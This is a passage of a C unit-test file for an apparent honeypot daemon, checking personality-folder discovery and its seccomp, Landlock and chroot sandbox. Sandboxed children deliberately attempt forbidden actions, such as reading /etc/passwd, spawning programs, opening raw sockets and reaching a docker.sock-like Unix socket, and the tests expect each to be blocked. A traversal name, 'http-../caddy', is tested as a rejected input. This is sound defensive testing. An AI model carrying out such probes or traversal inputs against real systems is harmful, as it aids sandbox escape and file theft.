		if (f) {
			fputs(files[i][1], f);
			fclose(f);
		}
	}
	snprintf(path, sizeof(path), "%s/zz/routes", dir);
	mkdir(path, 0700);           /* routes that is a folder: not listed */
	strategy_http_list(dir, list, sizeof(list));
	CHECK(strcmp(list, ", http-caddy") == 0, "listed: '%s'", list);

	config_defaults(&cfg);
	config_set(&cfg, "templates", dir, err, sizeof(err));
	config_set(&cfg, "respond", "http-caddy", err, sizeof(err));
	CHECK(respond_build(&set, &cfg, err, sizeof(err)) == 0, "http-caddy: %s", err);
	CHECK(set.nstrategies == 1 && strcmp(set.strategies[0].name, "http-caddy") == 0 &&
	    strcmp(set.strategies[0].arg, "caddy") == 0, "the strategy is named for its folder");
	respond_free(&set);
	static const struct {
		const char *respond;
		const char *want;
	} bad[] = {
		{"http-nginx", "unknown strategy 'http-nginx': no "},
		{"http-empty", "/empty/routes (silent, banner, tarpit, http-caddy)"},
		{"http-../caddy", "unknown strategy 'http-../caddy': a personality's name"},
		{"http-", "unknown strategy 'http-': a personality's name"},
		{"http-Bad.Name", "unknown strategy 'http-Bad.Name'"},
		{"silent-x", "unknown strategy 'silent-x' (silent, banner, tarpit, http-caddy)"},
		{"http-zz", "/zz/routes: not a regular file"},
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		config_set(&cfg, "respond", bad[i].respond, err, sizeof(err));
		CHECK(respond_build(&set, &cfg, err, sizeof(err)) < 0 && strstr(err, bad[i].want),
		    "%s: %s", bad[i].respond, err);
		respond_free(&set);
	}
	config_free(&cfg);
	const char *rm[] = {"caddy/routes", "caddy/ok.http", "Bad.Name/routes", "zz/routes",
	    "caddy", "empty", "Bad.Name", "zz", ""};
	for (size_t i = 0; i < sizeof(rm) / sizeof(rm[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, rm[i]);
		remove(path);
	}
}

/* Runs fn in a forked child confined to spec, with the child's stderr in
 * errbuf. Returns the child's wait status. */
static int sandbox_run(const struct sandbox_spec *spec, int (*fn)(const char *),
    const char *arg, char *errbuf, size_t errlen)
{
	int fds[2], status = -1;
	pid_t pid;
	size_t n = 0;
	ssize_t got;

	if (pipe(fds) < 0)
		return -1;
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		struct sandbox_state st;
		char err[256];
		dup2(fds[1], STDERR_FILENO);
		close(fds[0]);
		if (sandbox_enter(spec, &st, err, sizeof(err)) < 0 || !st.seccomp) {
			dprintf(STDERR_FILENO, "enter failed: %s", err);
			_exit(100);
		}
		_exit(fn(arg));
	}
	close(fds[1]);
	while (n + 1 < errlen && (got = read(fds[0], errbuf + n, errlen - n - 1)) > 0)
		n += (size_t)got;
	errbuf[n] = '\0';
	close(fds[0]);
	if (pid > 0)
		waitpid(pid, &status, 0);
	return status;
}

static int sandbox_call_acct(const char *arg)
{
	(void)arg;
	syscall(SYS_acct, NULL);
	return 0;                    /* the filter should have killed us */
}

static int sandbox_call_execve(const char *arg)
{
	char *argv[] = {(char *)arg, NULL};
	execv(arg, argv);
	return 0;
}

/* 0 if arg can be read, 1 if not. */
static int sandbox_read_file(const char *arg)
{
	int fd = open(arg, O_RDONLY);
	return fd < 0 ? 1 : (close(fd), 0);
}

/* 0 if a new file can be made at arg, written, renamed and unlinked. */
static int sandbox_make_file(const char *arg)
{
	char other[512];
	int fd = open(arg, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		return 1;
	int ok = write(fd, "x", 1) == 1 && ftruncate(fd, 0) == 0 && fsync(fd) == 0;
	close(fd);
	snprintf(other, sizeof(other), "%s.renamed", arg);
	ok = ok && rename(arg, other) == 0 && unlink(other) == 0;
	return ok ? 0 : 2;
}

/* 0 if an IDENT-like TCP socket and a thread can still be made. */
static void *sandbox_thread(void *arg)
{
	return arg;
}

static int sandbox_socket_and_thread(const char *arg)
{
	static int marker;
	pthread_t t;
	void *ret = NULL;
	int fd = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
	(void)arg;
	if (fd < 0)
		return 1;
	close(fd);
	if (pthread_create(&t, NULL, sandbox_thread, &marker) != 0 || pthread_join(t, &ret) != 0)
		return 2;
	return ret == &marker ? 0 : 3;
}

/* prlimit64 on the parent (only reading: the test runner keeps its limits).
 * Returns 0 if the call went through. */
static int sandbox_prlimit_other(const char *arg)
{
	struct rlimit rl;
	(void)arg;
	return prlimit(getppid(), RLIMIT_NOFILE, NULL, &rl) == 0 ? 0 : 1;
}

/* 0 if glibc's getrlimit and setrlimit (prlimit64 on pid 0) still work. */
static int sandbox_own_limits(const char *arg)
{
	struct rlimit rl;
	(void)arg;
	if (getrlimit(RLIMIT_NOFILE, &rl) < 0)
		return 1;
	return setrlimit(RLIMIT_NOFILE, &rl) == 0 ? 0 : 2;
}

/* 0 if a raw IPv4 socket can be made (as root: packet spoofing). */
static int sandbox_raw_socket(const char *arg)
{
	(void)arg;
	return socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP) >= 0 ? 0 : 1;
}

/* 0 if a UDP socket can be made. */
static int sandbox_udp_socket(const char *arg)
{
	(void)arg;
	return socket(AF_INET, SOCK_DGRAM, 0) >= 0 ? 0 : 1;
}

/* Connects to the Unix socket at arg: 0 if connected, 1 if socket()
 * failed with EACCES, 2 otherwise. */
static int sandbox_unix_connect(const char *arg)
{
	struct sockaddr_un sun = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return errno == EACCES ? 1 : 2;
	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", arg);
	return connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == 0 ? 0 : 2;
}

/* 0 if an IPv4 TCP socket (listeners, IDENT probes) can be made. */
static int sandbox_tcp_socket(const char *arg)
{
	(void)arg;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	return fd >= 0 ? (close(fd), 0) : 1;
}

/* 0 if arch_prctl(ARCH_GET_FS) goes through. */
static int sandbox_arch_prctl(const char *arg)
{
	unsigned long fs = 0;
	(void)arg;
#ifdef SYS_arch_prctl
	return syscall(SYS_arch_prctl, 0x1003 /* ARCH_GET_FS */, &fs) == 0 ? 0 : 1;
#else
	(void)fs;
	return 0;
#endif
}

/* tgkill(pid, tid, 0) on the process named by arg ("self" or "parent"):
 * 0 if allowed. The filter names the own pid through a placeholder patched
 * at load (sandbox.c): this checks the patch. */
static int sandbox_tgkill(const char *arg)
{
	pid_t pid = strcmp(arg, "self") == 0 ? getpid() : getppid();
	pid_t tid = strcmp(arg, "self") == 0 ? gettid() : getppid();

	return syscall(SYS_tgkill, pid, tid, 0) == 0 ? 0 : 1;
}

/* kill(parent, 0): 0 if the parent, outside the sandbox, can be signalled. */
static int sandbox_signal_parent(const char *arg)
{
	(void)arg;
	return kill(getppid(), 0) == 0 ? 0 : errno == EPERM ? 1 : 2;
}

static int sandbox_fork(const char *arg)
{
	(void)arg;
	pid_t pid = fork();
	if (pid == 0)
		_exit(0);
	return 0;
}

static void test_sandbox(void)
{
	char in[] = "/tmp/flypaper-unit-in.XXXXXX", out[] = "/tmp/flypaper-unit-out.XXXXXX";
	char inside[256], outside[256], made[256], made_in[256], errbuf[512];
	struct sandbox_spec spec = {.rw_dirs = {in}};
	int st;

	if (!mkdtemp(in) || !mkdtemp(out)) {
		CHECK(0, "mkdtemp: %s", strerror(errno));
		return;
	}
	snprintf(inside, sizeof(inside), "%s/db", in);
	snprintf(outside, sizeof(outside), "%s/secret", out);
	snprintf(made, sizeof(made), "%s/new", out);
	snprintf(made_in, sizeof(made_in), "%s/new", in);
	fclose(fopen(inside, "w"));
	fclose(fopen(outside, "w"));

	st = sandbox_run(&spec, sandbox_call_acct, NULL, errbuf, sizeof(errbuf));
	CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "forbidden call: status %#x, %s", st, errbuf);
	char want[64];
	snprintf(want, sizeof(want), "sandbox: forbidden system call %d, killed\n", SYS_acct);
	CHECK(strstr(errbuf, want) != NULL, "the log line names the call: '%s'", errbuf);
	st = sandbox_run(&spec, sandbox_call_execve, "/bin/true", errbuf, sizeof(errbuf));
	CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "execve: status %#x, %s", st, errbuf);
	st = sandbox_run(&spec, sandbox_fork, NULL, errbuf, sizeof(errbuf));
	/* LSan needs fork-like clones: sanitizer builds allow them. */
	CHECK(SANDBOX_SANITIZERS ? WIFEXITED(st) : WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS,
	    "fork: status %#x, %s", st, errbuf);

	st = sandbox_run(&spec, sandbox_socket_and_thread, NULL, errbuf, sizeof(errbuf));
	CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0, "socket and thread: status %#x, %s", st, errbuf);
	/* A limit of another process's: killed (SIGSYS), as every call
	 * outside the list; the daemon never makes it, so it can only be an
	 * exploit's. Its own limits still work. */
	st = sandbox_run(&spec, sandbox_prlimit_other, NULL, errbuf, sizeof(errbuf));
	CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "prlimit64 on another pid: status %#x, %s",
	    st, errbuf);
	st = sandbox_run(&spec, sandbox_own_limits, NULL, errbuf, sizeof(errbuf));
	CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0, "own rlimits: status %#x, %s", st, errbuf);
	st = sandbox_run(&spec, sandbox_tgkill, "self", errbuf, sizeof(errbuf));
	CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0, "tgkill on itself: status %#x, %s", st, errbuf);
	if (!SANDBOX_SANITIZERS) {
		st = sandbox_run(&spec, sandbox_tgkill, "parent", errbuf, sizeof(errbuf));
		CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "tgkill on another pid: status %#x, %s",
		    st, errbuf);
	}
	st = sandbox_run(&spec, sandbox_raw_socket, NULL, errbuf, sizeof(errbuf));
	CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "raw socket: status %#x, %s", st, errbuf);
	st = sandbox_run(&spec, sandbox_udp_socket, NULL, errbuf, sizeof(errbuf));
	CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "udp socket: status %#x, %s", st, errbuf);
	st = sandbox_run(&spec, sandbox_tcp_socket, NULL, errbuf, sizeof(errbuf));
	CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0, "tcp socket: status %#x, %s", st, errbuf);
	if (!SANDBOX_SANITIZERS) {
		st = sandbox_run(&spec, sandbox_arch_prctl, NULL, errbuf, sizeof(errbuf));
		CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "arch_prctl: status %#x, %s", st, errbuf);
	}
	/* Signals to processes outside: kill is not on the list (SIGSYS); in
	 * sanitizer builds it is, and Landlock ABI 6's scope refuses (EPERM). */
	st = sandbox_run(&spec, sandbox_signal_parent, NULL, errbuf, sizeof(errbuf));
	if (!SANDBOX_SANITIZERS)
		CHECK(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS, "kill: status %#x, %s", st, errbuf);
	else if (syscall(SYS_landlock_create_ruleset, NULL, 0, 1U) >= 6)
		CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 1, "kill outside: status %#x, %s", st, errbuf);
	/* A Unix socket the sandbox could otherwise reach (as /run/systemd/
	 * private or docker.sock): socket() fails with EACCES. */
	{
		struct sockaddr_un sun = {.sun_family = AF_UNIX};
		char sock[sizeof(sun.sun_path) - 8];
		int lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		snprintf(sock, sizeof(sock), "%.40s/sock", out);
		memcpy(sun.sun_path, sock, sizeof(sock));
		CHECK(lfd >= 0 && bind(lfd, (struct sockaddr *)&sun, sizeof(sun)) == 0 &&
		    listen(lfd, 4) == 0, "unix listener: %s", strerror(errno));
		st = sandbox_run(&spec, sandbox_unix_connect, sock, errbuf, sizeof(errbuf));
		CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 1, "unix socket: status %#x, %s", st, errbuf);
		if (lfd >= 0)
			close(lfd);
		unlink(sock);
	}
	st = sandbox_run(&spec, sandbox_make_file, made_in, errbuf, sizeof(errbuf));
	CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0, "write inside: status %#x, %s", st, errbuf);
	st = sandbox_run(&spec, sandbox_read_file, inside, errbuf, sizeof(errbuf));
	CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0, "read inside: status %#x, %s", st, errbuf);
	if (syscall(SYS_landlock_create_ruleset, NULL, 0, 1U) > 0) {
		st = sandbox_run(&spec, sandbox_read_file, outside, errbuf, sizeof(errbuf));
		CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 1, "read outside: status %#x, %s", st, errbuf);
		st = sandbox_run(&spec, sandbox_make_file, made, errbuf, sizeof(errbuf));
		CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 1, "create outside: status %#x, %s", st, errbuf);
		st = sandbox_run(&spec, sandbox_read_file, "/etc/passwd", errbuf, sizeof(errbuf));
		CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 1, "read /etc/passwd: status %#x, %s", st, errbuf);
	} else {
		printf("unit: no landlock in this kernel: filesystem checks not run\n");
	}
	unlink(inside);
	unlink(outside);
	unlink(made);
	rmdir(in);
	rmdir(out);
}

/* sandbox_chroot in a forked child (root, as CI runs these): returns its
 * exit status, 0 if every check passed, else the number of the first
 * that failed. want_root is the inode the child's / must have after. */
static int sandbox_chroot_child(const char *db, const char *jsonl, int want_chroot,
    const char *want_db, const char *want_jsonl, ino_t want_root, const char *outside)
{
	int status = -1;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		struct config cfg;
		struct stat root;
		int null = open("/dev/null", O_WRONLY);
		dup2(null, STDERR_FILENO);   /* the log lines */
		config_defaults(&cfg);
		free(cfg.db_path);
		cfg.db_path = strdup(db);
		cfg.jsonl_path = jsonl ? strdup(jsonl) : NULL;
		if (sandbox_chroot(&cfg) != want_chroot)
			_exit(1);
		if (strcmp(cfg.db_path, want_db) != 0)
			_exit(2);
		if (jsonl && strcmp(cfg.jsonl_path, want_jsonl) != 0)
			_exit(3);
		if (stat("/", &root) < 0 || root.st_ino != want_root)
			_exit(4);
		if (want_chroot && (access("/fp.db-wal", F_OK) < 0 ||
		    (want_jsonl && strcmp(want_jsonl, "-") != 0 &&
		    access(want_jsonl, W_OK) < 0)))
			_exit(5);
		if (want_chroot && (open(outside, O_RDONLY) >= 0 || errno != ENOENT))
			_exit(6);
		if (geteuid() != 0)  /* the effective uid it was called with */
			_exit(7);
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 100 + status;
}

static void test_sandbox_chroot(void)
{
	char top[] = "/tmp/flypaper-unit-chroot.XXXXXX";
	char state[256], sub[300], db[300], jsonl[400], away[300], secret[300];
	struct stat st_state, st_root;
	struct config cfg;
	int rc;

	config_defaults(&cfg);
	setenv(SANDBOX_PRETEND_ENV, "1", 1);
	CHECK(sandbox_chroot_wanted(&cfg) == 0, "no chroot without --user");
	cfg.user = strdup("nobody");
	CHECK(sandbox_chroot_wanted(&cfg) == (!SANDBOX_SANITIZERS && getuid() == 0 && geteuid() == 0),
	    "chroot wanted as root with --user and no landlock (none in sanitizer builds)");
	unsetenv(SANDBOX_PRETEND_ENV);
	if (syscall(SYS_landlock_create_ruleset, NULL, 0, 1U) > 0)
		CHECK(sandbox_chroot_wanted(&cfg) == 0, "no chroot where landlock is");
	config_free(&cfg);
	if (geteuid() != 0) {
		printf("unit: not root: chroot checks not run\n");
		return;
	}
	if (!mkdtemp(top)) {
		CHECK(0, "mkdtemp: %s", strerror(errno));
		return;
	}
	snprintf(state, sizeof(state), "%s/state", top);
	snprintf(sub, sizeof(sub), "%s/j", state);
	snprintf(db, sizeof(db), "%s/fp.db", state);
	snprintf(jsonl, sizeof(jsonl), "%s/ev.jsonl", sub);
	snprintf(away, sizeof(away), "%s/ev.jsonl", top);
	snprintf(secret, sizeof(secret), "%s/secret", top);
	CHECK(mkdir(state, 0750) == 0 && mkdir(sub, 0750) == 0 && stat(state, &st_state) == 0 &&
	    stat("/", &st_root) == 0, "state folders: %s", strerror(errno));
	fclose(fopen(secret, "w"));

	rc = sandbox_chroot_child(db, jsonl, 1, "/fp.db", "/j/ev.jsonl", st_state.st_ino, secret);
	CHECK(rc == 0, "chroot into the database's folder, paths rebased: check %d failed", rc);
	rc = sandbox_chroot_child(db, "-", 1, "/fp.db", "-", st_state.st_ino, secret);
	CHECK(rc == 0, "chroot with JSON lines on stdout: check %d failed", rc);
	rc = sandbox_chroot_child(db, NULL, 1, "/fp.db", NULL, st_state.st_ino, secret);
	CHECK(rc == 0, "chroot without JSON lines: check %d failed", rc);
	rc = sandbox_chroot_child(db, away, 0, db, away, st_root.st_ino, secret);
	CHECK(rc == 0, "no chroot, JSON lines outside the folder: check %d failed", rc);
	chmod(state, 0770);          /* SQLite's folder: no group writers */
	rc = sandbox_chroot_child(db, jsonl, 0, db, jsonl, st_root.st_ino, secret);
	CHECK(rc == 0, "no chroot into a group-writable folder: check %d failed", rc);

	char cmd[200];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", top);
	CHECK(system(cmd) == 0, "cleanup of %s", top);
}

int main(void)
{
	test_durations();
	test_sizes();
	test_addrs();
	test_source_keys();
	test_addr_ip_bytes();
	test_timestamps_and_ids();
	test_queue_caps();
	test_queue_oldest();
	test_writer_lag();
	test_record_size();
	test_escape();
	test_config();
	test_options();
	test_jsonl_format();
	test_jsonl_cut_writes();
	test_jsonl_escaped_is_not_lost();
	test_deadlines();
	test_session_size();
	test_http_parser();
	test_http_splits();
	test_ident_parser();
	test_ident_limiter();
	test_ident_probe_callbacks();
	test_ident_when_the_record_is_lost();
	test_ident_at_the_fd_limit();
	test_source_limit();
	test_experiment_assignment();
	test_experiment_arms_by_address();
	test_personalities();
	test_personality_discovery();
	test_sandbox();
	test_sandbox_chroot();
	test_output(&passed, &failed);
	test_classifier(&passed, &failed);
	test_session(&passed, &failed);
	test_families(&passed, &failed);
	test_normalize(&passed, &failed);
	test_shape(&passed, &failed);
	test_report_shapes(&passed, &failed);
	test_report_tags(&passed, &failed);
	test_report_tls(&passed, &failed);
	test_report_top(&passed, &failed);
	test_natsrow(&passed, &failed);
	test_natsurl(&passed, &failed);
	test_report_model(&passed, &failed);
	test_rule_lint(&passed, &failed);
	test_pcap(&passed, &failed);
	test_synsig(&passed, &failed);
	test_p0fdb(&passed, &failed);
	test_proxy(&passed, &failed);
	test_tlshello(&passed, &failed);
	test_tls_front(&passed, &failed);
	test_syslog(&passed, &failed);
	test_halfopen(&passed, &failed);
	test_stats(&passed, &failed);
	test_promtext(&passed, &failed);
	printf("unit: %d passed, %d failed\n", passed, failed);
	return failed ? 1 : 0;
}
